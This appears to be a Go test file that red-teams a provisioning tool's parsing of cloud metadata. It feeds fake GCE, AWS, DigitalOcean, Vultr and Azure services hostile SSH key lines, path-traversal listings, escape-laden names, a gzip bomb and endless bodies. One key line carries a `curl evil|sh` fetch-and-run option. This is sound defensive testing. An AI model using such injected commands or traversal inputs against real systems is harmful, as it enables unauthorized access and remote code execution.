package platforms

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ignition-go/ignition/internal/testenv"
	"github.com/ignition-go/ignition/internal/testnet"
	"github.com/ignition-go/ignition/tests/fakes"
)

// A red-team pass on the platform fragment (issue 16 point 3): metadata
// written to trick it, through the real binary against fake metadata
// services at their real addresses in a network namespace.

// edKeyWith is an ed25519 key line whose 32-byte public key is pk.
func edKeyWith(pk []byte, comment string) string {
	blob := binary.BigEndian.AppendUint32(nil, 11)
	blob = append(blob, "ssh-ed25519"...)
	blob = binary.BigEndian.AppendUint32(blob, 32)
	blob = append(blob, pk...)
	return "ssh-ed25519 " + base64.StdEncoding.EncodeToString(blob) + " " + comment
}

// skKey is a FIDO ed25519 key line (its blob of 74 bytes ends in one
// padding character).
func skKey() string {
	const typ = "sk-ssh-ed25519@openssh.com"
	blob := binary.BigEndian.AppendUint32(nil, uint32(len(typ)))
	blob = append(blob, typ...)
	blob = binary.BigEndian.AppendUint32(blob, 32)
	blob = append(blob, []byte(strings.Repeat("k", 32))...)
	blob = binary.BigEndian.AppendUint32(blob, 4)
	blob = append(blob, "ssh:"...)
	return typ + " " + base64.StdEncoding.EncodeToString(blob) + " fido"
}

// noRawControl fails when a log shows an escape or other control
// character as is (the logger and %q must escape what metadata sends).
func noRawControl(t *testing.T, what, s string) {
	t.Helper()
	for _, bad := range []string{"\x1b", "\x00", "\r", "\u202e", "\u0085"} {
		if strings.Contains(s, bad) {
			t.Errorf("%s shows %q as is", what, bad)
		}
	}
}

// Key lines built to slip past the parser: control characters inside, a
// look-alike type, base64 of another alphabet, options before or after a
// valid key, the same key under two comments.
func TestFragmentRedteamKeyLines(t *testing.T) {
	if !testnet.InNetns(t, "169.254.169.254") {
		return
	}
	// a key whose base64 has '+' and '/', and the same in the URL-safe
	// alphabet
	slashy := edKeyWith([]byte(strings.Repeat("\xfb\xff\xbf", 10)+"\xfb\xff"), "slashy")
	f := strings.Fields(slashy)
	urlSafe := f[0] + " " + strings.NewReplacer("+", "-", "/", "_").Replace(f[1]) + " urlsafe"
	// a FIDO key, whose blob (74 bytes) ends in padding, without it
	sk := skKey()
	unpadded := "sk-ssh-ed25519@openssh.com " + strings.TrimRight(strings.Fields(sk)[1], "=") + " unpadded"
	withCRInBlob := f[0] + " " + f[1][:20] + "\r" + f[1][20:] + " cr"
	alice, bob := keyOnly(keyAlice), strings.Fields(keyBob)[1]
	lines := []string{
		alice + " alice@laptop \x1b[31mred\x1b[0m", // control characters in the comment
		alice + "\x00ssh-ed25519 " + bob,           // NUL inside
		withCRInBlob,                               // CR inside the blob
		"ssh\u2010ed25519 " + bob + " hyphen",      // U+2010 look-alike
		"\ufeff" + keyBob,                          // a byte order mark before the type
		urlSafe,
		unpadded,
		`command="/bin/sh -c 'curl evil|sh'" ` + keyBob, // options before the key
		`restrict,pty ` + keyBob,
		"ssh-ed25519-cert-v01@openssh.com " + bob + " cert",
		keyAlice,
		slashy,
		sk,
		keyOnly(keyBob) + " " + edKeyLine(3), // a second key in the comment
		alice + " the same key again, another comment",
		"ssh-ed25519\t" + strings.Fields(edKeyLine(4))[1] + "\ttabs",
		edKeyLine(5) + ` command="/bin/sh"`, // an option-looking comment
	}
	serveAt(t, "169.254.169.254:80", digitalOcean("droplet-1", strings.Join(lines, "\n")+"\n"))
	m := newMachine(t)
	r, c := fetchOK(t, m, "digitalocean")
	users, _ := fragmentOf(c)
	// sshd reads a line's first key and takes the rest as its comment, so
	// a second key in the comment grants nothing; neither does an option
	// after the key
	want := []string{keyAlice, slashy, sk, keyOnly(keyBob) + " " + edKeyLine(3), "ssh-ed25519\t" + strings.Fields(edKeyLine(4))[1] + "\ttabs", edKeyLine(5) + ` command="/bin/sh"`}
	if strings.Join(users["core"], "\n") != strings.Join(want, "\n") || len(users) != 1 {
		t.Errorf("core's keys:\n%s\nwant:\n%s", strings.Join(users["core"], "\n"), strings.Join(want, "\n"))
	}
	mustContain(t, "log", r.out, "control characters in the line", "not a known key type at the start of the line",
		"left out 10 line(s) that are not OpenSSH public keys", "left out 5 more key lines")
	noRawControl(t, "log", r.out+r.stderr)
	b, _ := os.ReadFile(filepath.Join(m.state, "ignition.json"))
	noRawControl(t, "the cached config", string(b))
}

// The same key with different comments, for the same user and for two
// users: once per user, the first line kept.
func TestFragmentRedteamDuplicates(t *testing.T) {
	if !testnet.InNetns(t, "169.254.169.254") {
		return
	}
	alice := keyOnly(keyAlice)
	serveAt(t, "169.254.169.254:80", &fakes.GCE{Values: map[string]string{
		"instance/hostname":            "vm-1",
		"instance/attributes/ssh-keys": "alice:" + alice + " one\nalice:" + alice + " two\nbob:" + alice + " three\n",
		"project/attributes/ssh-keys":  "alice:" + alice + "   \nalice: " + alice + " four\n",
	}})
	m := newMachine(t)
	_, c := fetchOK(t, m, "gcp")
	users, _ := fragmentOf(c)
	if strings.Join(users["alice"], "|") != alice+" one" || strings.Join(users["bob"], "|") != alice+" three" || len(users) != 2 {
		t.Errorf("users = %v; want alice's first line and bob's", users)
	}
}

// GCE: the spellings of the flags, whose keys are whose, expiry in other
// time zones, user names that are not plain.
func TestFragmentRedteamGCE(t *testing.T) {
	if !testnet.InNetns(t, "169.254.169.254") {
		return
	}
	alice, bob := keyOnly(keyAlice), keyOnly(keyBob)
	for _, c := range []struct {
		name  string
		attrs map[string]string
		keys  bool // alice's instance key and bob's project key installed
		bob   bool // bob's project key installed
	}{
		{"enable-oslogin True with a trailing space", map[string]string{"instance/attributes/enable-oslogin": "True \n"}, false, false},
		{"enable-oslogin 1", map[string]string{"instance/attributes/enable-oslogin": "1"}, false, false},
		{"enable-oslogin yes is unset", map[string]string{"instance/attributes/enable-oslogin": "yes"}, true, true},
		{"instance 0 over project TRUE", map[string]string{"instance/attributes/enable-oslogin": "0", "project/attributes/enable-oslogin": "TRUE"}, true, true},
		{"project TRUE, instance unreadable", map[string]string{"instance/attributes/enable-oslogin": "on", "project/attributes/enable-oslogin": "t"}, false, false},
		{"block-project-ssh-keys TRUE", map[string]string{"instance/attributes/block-project-ssh-keys": "TRUE"}, true, false},
		{"block-project-ssh-keys on the project does nothing", map[string]string{"project/attributes/block-project-ssh-keys": "true"}, true, true},
	} {
		t.Run(c.name, func(t *testing.T) {
			v := map[string]string{
				"instance/hostname":            "vm-2",
				"instance/attributes/ssh-keys": "alice:" + alice,
				"project/attributes/ssh-keys":  "bob:" + bob,
			}
			for k, x := range c.attrs {
				v[k] = x
			}
			serveAt(t, "169.254.169.254:80", &fakes.GCE{Values: v})
			m := newMachine(t)
			_, cached := fetchOK(t, m, "gcp")
			users, _ := fragmentOf(cached)
			if _, ok := users["alice"]; ok != c.keys {
				t.Errorf("users = %v; want alice's key: %v", users, c.keys)
			}
			if _, ok := users["bob"]; ok != c.bob {
				t.Errorf("users = %v; want bob's key: %v", users, c.bob)
			}
		})
	}
	t.Run("expiry", func(t *testing.T) {
		exp := func(user, key, when string) string {
			return fmt.Sprintf(`%s:%s google-ssh {"userName":"%s@example.com","expireOn":"%s"}`, user, key, user, when)
		}
		soon := time.Now().Add(-30 * time.Minute)
		serveAt(t, "169.254.169.254:80", &fakes.GCE{Values: map[string]string{
			"instance/hostname": "vm-3",
			"instance/attributes/ssh-keys": strings.Join([]string{
				exp("a1", alice, "9999-12-31T23:59:59Z"),                                        // far future
				exp("a2", alice, time.Now().Add(time.Hour).Format("2006-01-02T15:04:05+14:00")), // +14:00 is earlier than it reads: passed
				exp("a3", alice, soon.In(time.FixedZone("", -12*3600)).Format(time.RFC3339)),    // passed, in UTC-12
				exp("a4", alice, "2099-01-01T00:00:00.123+0000"),                                // fractional seconds
				exp("a5", alice, "2099-01-01"),                                                  // a date only: not a time
				`a6:` + alice + ` google-ssh {"userName":"a6","expireOn":"2000-01-01T00:00:00Z","expireOn":"2099-01-01T00:00:00Z"}`,
				`a7:` + alice + ` google-ssh {"expireOn":2099}`,
				`a8:` + alice + ` google-ssh {"expireOn":"2000-01-01T00:00:00Z"} trailing`,
			}, "\n"),
		}})
		m := newMachine(t)
		r, c := fetchOK(t, m, "gcp")
		users, _ := fragmentOf(c)
		got := []string{}
		for _, u := range []string{"a1", "a2", "a3", "a4", "a5", "a6", "a7", "a8"} {
			if _, ok := users[u]; ok {
				got = append(got, u)
			}
		}
		// a6: the last expireOn counts, as encoding/json (and the guest
		// agent) read it
		if strings.Join(got, " ") != "a1 a4 a6" {
			t.Errorf("users with keys: %v; want a1 a4 a6", got)
		}
		logFragment(t, r.out)
	})
	t.Run("user names that are not plain", func(t *testing.T) {
		names := []string{"../root", "root", "Alice", strings.Repeat("a", 33), "al\x1b[2Jice", "bob\u202e", "-rf", "alice:", "ali ce"}
		var lines []string
		for _, n := range names {
			lines = append(lines, n+":"+bob)
		}
		lines = append(lines, strings.Repeat("b", 32)+":"+bob, "_svc:"+bob)
		serveAt(t, "169.254.169.254:80", &fakes.GCE{Values: map[string]string{
			"instance/hostname":            "vm-4",
			"instance/attributes/ssh-keys": strings.Join(lines, "\n"),
		}})
		m := newMachine(t)
		r, c := fetchOK(t, m, "gcp")
		users, _ := fragmentOf(c)
		if len(users) != 2 || len(users[strings.Repeat("b", 32)]) != 1 || len(users["_svc"]) != 1 {
			t.Errorf("users = %v; want the 32-character name and _svc only", users)
		}
		mustContain(t, "log", r.out, `skipped the user name "../root"`, `skipped the user name "root"`, `skipped the user name "al\x1b[2Jice"`, `skipped the user name "bob\u202e"`)
		noRawControl(t, "log", r.out+r.stderr)
	})
}

// EC2-style listings that name something else than indexes: nothing but
// <n>/openssh-key is ever asked for.
func TestFragmentRedteamAWSListing(t *testing.T) {
	if !testnet.InNetns(t, "169.254.169.254") {
		return
	}
	imds := &fakes.IMDS{Paths: map[string]string{
		"/latest/meta-data/local-hostname": "ip-10-0-0-7.ec2.internal",
		"/latest/meta-data/public-keys/": "0=alice\n../../\n../../../latest/user-data\n-1=neg\n1/\nabc=x\n9999999999=huge\n+2=plus\n 2=bob\n0\n0x1=hex\n3 =space\n" +
			"4=a=b\n\n%2e%2e/=enc\n",
		"/latest/meta-data/public-keys/0/openssh-key": keyAlice + "\n",
		"/latest/meta-data/public-keys/1/openssh-key": keyBob + "\n",
		"/latest/meta-data/public-keys/2/openssh-key": edKeyLine(2) + "\n",
		"/latest/meta-data/public-keys/4/openssh-key": edKeyLine(4) + "\n",
	}}
	serveAt(t, "169.254.169.254:80", imds)
	m := newMachine(t)
	_, c := fetchOK(t, m, "aws")
	users, _ := fragmentOf(c)
	if want := []string{keyAlice, keyBob, edKeyLine(2), edKeyLine(4)}; strings.Join(users["core"], "|") != strings.Join(want, "|") {
		t.Errorf("core's keys = %v; want indexes 0, 1, 2, 4", users["core"])
	}
	if n := imds.Gets(func(p string) bool {
		return strings.Contains(p, "..") || strings.Contains(p, "user-data") && strings.Contains(p, "public-keys")
	}); n != 0 {
		t.Errorf("%d requests outside the listing's indexes", n)
	}
	if n := imds.Gets(func(p string) bool { return strings.HasSuffix(p, "/openssh-key") }); n != 4 {
		t.Errorf("%d key requests; want 4 (0, 1, 2, 4)", n)
	}
}

// Host names at systemd's edges.
func TestFragmentRedteamHostNames(t *testing.T) {
	if !testnet.InNetns(t, "169.254.169.254") {
		return
	}
	l63 := strings.Repeat("a", 63)
	for _, c := range []struct{ served, want string }{
		{"xn--bcher-kva.example", "xn--bcher-kva.example"},
		{"bücher.example", ""},
		{"12345", "12345"},
		{"10.0.0.7", "10.0.0.7"},
		{"web-1.example.com.", "web-1.example.com"},
		{"web-1.", ""}, // one label and a dot: systemd refuses it too
		{"web-1..example", ""},
		{".web-1", ""},
		{strings.Repeat("a", 64), strings.Repeat("a", 64)},
		{strings.Repeat("a", 65), ""},
		{l63 + ".b", l63},
		{"localhost", "localhost"},
		{"WEB-01.Example.COM", "WEB-01.Example.COM"},
		{"web\x1b[31m-1", ""},
		{"web 1", ""},
		{"web-1\x00evil", ""},
		{"#web", ""},
	} {
		t.Run(strings.ToValidUTF8(fmt.Sprintf("%q", c.served), "?"), func(t *testing.T) {
			serveAt(t, "169.254.169.254:80", digitalOcean(c.served, keyAlice))
			m := newMachine(t)
			r, cached := fetchOK(t, m, "digitalocean")
			want := ""
			if c.want != "" {
				want = "data:," + c.want + "%0A"
			}
			if _, host := fragmentOf(cached); host != want {
				t.Errorf("hostname source %q; want %q", host, want)
			}
			noRawControl(t, "log", r.out+r.stderr)
		})
	}
}

// Documents whose keys field has another shape than the docs': numbers,
// nested lists, nulls, a map of maps, a huge list. Another shape is left
// out with a warning; a map of maps is not walked (a 1 MiB document of
// nested maps took minutes of CPU when it was).
func TestFragmentRedteamDocShapes(t *testing.T) {
	if !testnet.InNetns(t, "169.254.169.254") {
		return
	}
	huge := `[` + strings.Repeat(`"",`, 200_000) + `"` + keyAlice + `"]`
	deep := strings.Repeat(`{"a":`, 2000) + `["` + keyBob + `"]` + strings.Repeat(`}`, 2000)
	for _, c := range []struct {
		name, keys string
		want       []string
		warn       string
	}{
		{"numbers", `[1, 2.5, -3]`, nil, "is neither a key nor a list of keys"},
		{"nested lists", `[["` + keyAlice + `"]]`, nil, "is neither a key nor a list of keys"},
		{"nulls", `[null, "` + keyAlice + `", null]`, []string{keyAlice}, ""},
		{"null", `null`, nil, ""},
		{"a map of names to keys", `{"b": "` + keyBob + `", "a": ["` + keyAlice + `"]}`, []string{keyAlice, keyBob}, ""},
		{"a map of maps", `{"a": {"b": "` + keyBob + `"}}`, nil, "is neither a key nor a list of keys"},
		{"deeply nested maps", deep, nil, "is neither a key nor a list of keys"},
		{"a huge list", huge, []string{keyAlice}, ""},
		{"a boolean", `true`, nil, "is neither a key nor a list of keys"},
	} {
		t.Run(c.name, func(t *testing.T) {
			serveAt(t, "169.254.169.254:80", serveMap(map[string]string{
				"/v1.json": `{"hostname": "vultr-1", "public-keys": ` + c.keys + `}`,
			}))
			m := newMachine(t)
			r, cached := fetchOK(t, m, "vultr")
			users, host := fragmentOf(cached)
			if strings.Join(users["core"], "|") != strings.Join(c.want, "|") || host != "data:,vultr-1%0A" {
				t.Errorf("core's keys %v, hostname %q; want %v and vultr-1", users["core"], host, c.want)
			}
			if c.warn != "" {
				mustContain(t, "log", r.out, c.warn)
			}
		})
	}
}

// Bodies that never end, that trickle, that are compressed, or that
// redirect: bounded by the read budget and the fetch timeout.
func TestFragmentRedteamTransport(t *testing.T) {
	if !testnet.InNetns(t, "169.254.169.254", "192.0.2.10") {
		return
	}
	t.Run("an endless chunked body is cut at the budget", func(t *testing.T) {
		serveAt(t, "169.254.169.254:80", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			switch r.URL.Path {
			case "/metadata/v1/user-data":
			case "/metadata/v1/hostname":
				w.Write([]byte("droplet-1"))
			case "/metadata/v1/public-keys":
				w.Write([]byte(keyAlice + "\n"))
				line := []byte(strings.Repeat("x", 1023) + "\n")
				for r.Context().Err() == nil {
					if _, err := w.Write(line); err != nil {
						return
					}
				}
			default:
				http.NotFound(w, r)
			}
		}))
		m := newMachine(t)
		r, c := fetchOK(t, m, "digitalocean")
		if users, _ := fragmentOf(c); strings.Join(users["core"], "|") != keyAlice {
			t.Errorf("users = %v; want core with alice's key", users)
		}
		mustContain(t, "log", r.out, "/metadata/v1/public-keys is longer than the", "cut there")
	})
	t.Run("a gzip bomb with Content-Encoding is not inflated", func(t *testing.T) {
		bomb := fakes.Gzip([]byte(strings.Repeat(keyAlice+"\n", 200_000))) // 20 MB inflated
		serveAt(t, "169.254.169.254:80", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			switch r.URL.Path {
			case "/metadata/v1/user-data":
			case "/metadata/v1/hostname":
				w.Write([]byte("droplet-1"))
			case "/metadata/v1/public-keys":
				w.Header().Set("Content-Encoding", "gzip")
				w.Write(bomb)
			default:
				http.NotFound(w, r)
			}
		}))
		m := newMachine(t)
		r, rss := m.runMeasured("digitalocean", "fetch")
		c, ok := m.cache()
		if r.code != 0 || !ok {
			t.Fatalf("fetch: exit %d\n%s%s", r.code, r.out, r.stderr)
		}
		if users, _ := fragmentOf(c); len(users) != 0 {
			t.Errorf("users = %v; want none (the body is not keys as sent)", users)
		}
		t.Logf("gzip bomb of %d KiB: peak RSS %d MiB", len(bomb)>>10, rss>>10)
	})
	t.Run("a redirect to another host", func(t *testing.T) {
		serveAt(t, "192.0.2.10:80", serveMap(map[string]string{"/keys": keyBob + "\n"}))
		serveAt(t, "169.254.169.254:80", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			switch r.URL.Path {
			case "/metadata/v1/user-data":
			case "/metadata/v1/hostname":
				w.Write([]byte("droplet-1"))
			case "/metadata/v1/public-keys":
				http.Redirect(w, r, "http://192.0.2.10/keys", http.StatusFound)
			default:
				http.NotFound(w, r)
			}
		}))
		m := newMachine(t)
		r, c := fetchOK(t, m, "digitalocean")
		users, _ := fragmentOf(c)
		t.Logf("after a redirect to another host: users %v", users)
		logFragment(t, r.out)
	})
	t.Run("a body that trickles forever ends at the fetch timeout", func(t *testing.T) {
		serveAt(t, "169.254.169.254:80", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			switch r.URL.Path {
			case "/metadata/v1/user-data":
			case "/metadata/v1/hostname":
				w.Write([]byte("droplet-1"))
			case "/metadata/v1/public-keys":
				for r.Context().Err() == nil {
					if _, err := w.Write([]byte("s")); err != nil {
						return
					}
					w.(http.Flusher).Flush()
					time.Sleep(100 * time.Millisecond)
				}
			default:
				http.NotFound(w, r)
			}
		}))
		m := newMachine(t)
		r := m.run("digitalocean", "fetch", "-fetch-timeout", "3s")
		t.Logf("trickle: exit %d after %v\n%s", r.code, r.took.Round(time.Millisecond), clip(r.out))
		if r.code == 0 {
			t.Errorf("fetch: exit 0; want the stage to fail at the fetch timeout (the keys were not read)")
		}
	})
	t.Run("many slow keys: the fragment as a whole ends at the fetch timeout", func(t *testing.T) {
		var list strings.Builder
		for n := range 20 {
			fmt.Fprintf(&list, "%d=key-%d\n", n, n)
		}
		imds := &fakes.IMDS{Paths: map[string]string{"/latest/meta-data/public-keys/": list.String()},
			Serve: func(w http.ResponseWriter, p string) bool {
				var n int
				if _, err := fmt.Sscanf(p, "/latest/meta-data/public-keys/%d/openssh-key", &n); err != nil {
					return false
				}
				time.Sleep(1500 * time.Millisecond) // each under the fetch timeout
				w.Write([]byte(edKeyLine(n) + "\n"))
				return true
			}}
		serveAt(t, "169.254.169.254:80", imds)
		m := newMachine(t)
		r := m.run("aws", "fetch", "-fetch-timeout", "4s")
		keys := imds.Gets(func(p string) bool { return strings.HasSuffix(p, "/openssh-key") })
		t.Logf("20 keys of 1.5 s each, -fetch-timeout 4s: exit %d after %v, %d key requests", r.code, r.took.Round(time.Millisecond), keys)
		// 4 s hold at most 3 of them, however slow the machine
		if keys > 3 {
			t.Errorf("%d key requests; want the fragment stopped by the fetch timeout (at most 3)", keys)
		}
		if r.code == 0 {
			t.Errorf("fetch: exit 0; want the stage failed at the fetch timeout, not a part of the keys")
		}
		mustContain(t, "log", r.out+r.stderr, "fetch timeout")
	})
}

// Azure's admin user named like a system account of the image: the files
// stage skips it with a warning, never touching the account or its home,
// and never fails the boot.
func TestFragmentRedteamAzureSystemAdmin(t *testing.T) {
	if !testnet.InNetns(t, "169.254.169.254", "168.63.129.16") {
		return
	}
	for _, c := range []struct {
		kind  testenv.RootKind
		admin string
		home  string
	}{
		{testenv.FedoraCoreOS, "operator", "var/roothome"},
		{testenv.FedoraCoreOS, "daemon", "sbin"},
		{testenv.FedoraCoreOS, "nobody", ""},
		{testenv.Debian, "daemon", "usr/sbin"},
		{testenv.Debian, "_apt", "nonexistent"},
		{testenv.Flatcar, "systemd-timesync", ""},
	} {
		t.Run(string(c.kind)+"/"+c.admin, func(t *testing.T) {
			serveAt(t, "169.254.169.254:80", &fakes.AzureIMDS{Environment: "AzurePublicCloud",
				UserData:      []byte(`{"ignition":{"version":"3.4.0"}}`),
				AdminUsername: c.admin, ComputerName: "web-7", PublicKeys: []string{keyBob}})
			serveAt(t, "168.63.129.16:80", &fakes.Wireserver{})
			m := fixtureMachine(t, c.kind)
			before := readString(t, filepath.Join(m.root, "etc/passwd"))
			if r := m.run("azure", "fetch"); r.code != 0 {
				t.Fatalf("fetch: exit %d\n%s%s", r.code, clip(r.out), clip(r.stderr))
			}
			r := m.run("azure", "files")
			if r.code != 0 {
				t.Fatalf("files: exit %d; want 0\n%s%s", r.code, clip(r.out), clip(r.stderr))
			}
			mustContain(t, "log", r.out, `user "`+c.admin+`" skipped`)
			if after := readString(t, filepath.Join(m.root, "etc/passwd")); after != before {
				t.Errorf("/etc/passwd changed:\n%s", after)
			}
			if c.home != "" {
				if _, err := os.Lstat(filepath.Join(m.root, c.home, ".ssh")); err == nil {
					t.Errorf("%s's home /%s has a .ssh now", c.admin, c.home)
				}
			}
			if b, _ := os.ReadFile(filepath.Join(m.root, "etc/hostname")); string(b) != "web-7\n" {
				t.Errorf("/etc/hostname = %q; want web-7 (the host name is not the account's)", b)
			}
		})
	}
}

// A read retried after its body broke off costs the budget once: what
// the failed attempts read is not counted.
func TestFragmentRedteamBudgetAcrossRetries(t *testing.T) {
	if !testnet.InNetns(t, "169.254.169.254") {
		return
	}
	attempts := 0
	pad := strings.Repeat("# padding to break off\n", 700_000/23)
	imds := &fakes.IMDS{Paths: map[string]string{
		"/latest/meta-data/public-keys/":              "0=a\n1=b\n",
		"/latest/meta-data/public-keys/1/openssh-key": keyBob + "\n",
	}, Serve: func(w http.ResponseWriter, p string) bool {
		if p != "/latest/meta-data/public-keys/0/openssh-key" {
			return false
		}
		attempts++
		body := keyAlice + "\n"
		if attempts <= 2 {
			// promise more than is sent, then close: the body breaks off,
			// at another offset each time
			part := pad[:len(pad)-attempts*1000]
			w.Header().Set("Content-Length", fmt.Sprint(len(part)+100_000))
			w.Write([]byte(part))
			return true
		}
		w.Write([]byte(body))
		return true
	}}
	serveAt(t, "169.254.169.254:80", imds)
	m := newMachine(t)
	r, c := fetchOK(t, m, "aws")
	if users, _ := fragmentOf(c); strings.Join(users["core"], "|") != keyAlice+"|"+keyBob {
		t.Errorf("core's keys = %v; want alice's and bob's (the broken attempts cost nothing)\n%s", users["core"], clip(r.out))
	}
	if attempts != 3 {
		t.Errorf("%d attempts at key 0; want 3", attempts)
	}
}

// A GCE user named like a group the image has (Fedora CoreOS' wheel,
// Flatcar's docker) but no user: useradd would refuse to make the user's
// own group, and that must not fail the boot.
func TestFragmentRedteamGroupNamedUser(t *testing.T) {
	if !testnet.InNetns(t, "169.254.169.254") {
		return
	}
	for _, c := range []struct {
		kind  testenv.RootKind
		group string
	}{
		{testenv.FedoraCoreOS, "wheel"},
		{testenv.Flatcar, "docker"},
		{testenv.Debian, "users"},
	} {
		t.Run(string(c.kind)+"/"+c.group, func(t *testing.T) {
			serveAt(t, "169.254.169.254:80", &fakes.GCE{Values: map[string]string{
				"instance/hostname":           "vm-1",
				"project/attributes/ssh-keys": c.group + ":" + keyBob + "\nalice:" + keyAlice + "\n",
			}})
			m := fixtureMachine(t, c.kind)
			if r := m.run("gcp", "fetch"); r.code != 0 {
				t.Fatalf("fetch: exit %d\n%s%s", r.code, clip(r.out), clip(r.stderr))
			}
			r := m.run("gcp", "files")
			if r.code != 0 {
				t.Fatalf("files: exit %d; want 0 (metadata never fails the boot)\n%s", r.code, clip(r.out+r.stderr))
			}
			mustContain(t, "log", r.out, `user "`+c.group+`" skipped`, "but a group \""+c.group+"\" is")
			if got := readString(t, filepath.Join(homeDir(m, "alice"), ".ssh/authorized_keys.d/ignition")); got != keyAlice+"\n" {
				t.Errorf("alice's keys = %q; want hers (the rest of the metadata still counts)", got)
			}
		})
	}
}
